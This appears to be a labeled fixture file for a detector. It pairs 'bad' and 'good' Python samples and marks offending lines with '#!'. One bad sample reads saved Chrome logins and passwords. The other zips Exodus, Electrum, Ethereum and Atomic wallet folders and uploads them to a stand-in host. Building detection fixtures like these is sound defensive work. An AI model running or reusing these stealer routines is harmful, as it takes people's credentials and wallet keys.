#: bad profiles
import os
import shutil
import sqlite3

LOCAL = os.getenv("LOCALAPPDATA", "")
LOGIN = os.path.join(LOCAL, "Google", "Chrome", "User Data", "Default", "Login Data")


def rows():
    shutil.copy2(LOGIN, "lv.db") #!
    database = sqlite3.connect("lv.db")
    return database.execute(
        "SELECT origin_url, username_value, password_value FROM logins" #!
    ).fetchall()
#: good profiles
import os
import shutil
import sqlite3

LOCAL = os.getenv("LOCALAPPDATA", "")
LIBRARY = os.path.join(LOCAL, "Bookshelf", "User Data", "library.db")


def rows():
    shutil.copy2(LIBRARY, "library-copy.db")
    database = sqlite3.connect("library-copy.db")
    return database.execute("SELECT title, author, year FROM books").fetchall()
#: bad wallets
from pathlib import Path
from zipfile import ZipFile

import requests

NAMES = ["Exodus/exodus.wallet", "Electrum/wallets", "Ethereum/keystore", "atomic/Local Storage"]


def gather(base=Path.home() / "AppData" / "Roaming"):
    with ZipFile("w.zip", "w") as archive:
        for name in NAMES:
            for path in (base / name).rglob("*"): #!
                archive.write(path)
    with open("w.zip", "rb") as handle:
        requests.post("https://box.coinview.invalid/up", files={"w": handle}) #!
#: good wallets
from pathlib import Path
from zipfile import ZipFile

import requests

NAMES = ["config/theme.json", "config/keymap.json"]


def gather(base):
    with ZipFile("settings.zip", "w") as archive:
        for name in NAMES:
            for path in (Path(base) / name).rglob("*"):
                archive.write(path)


def price(coin):
    return requests.get("https://api.coinview.invalid/price/" + coin, timeout=5).json()
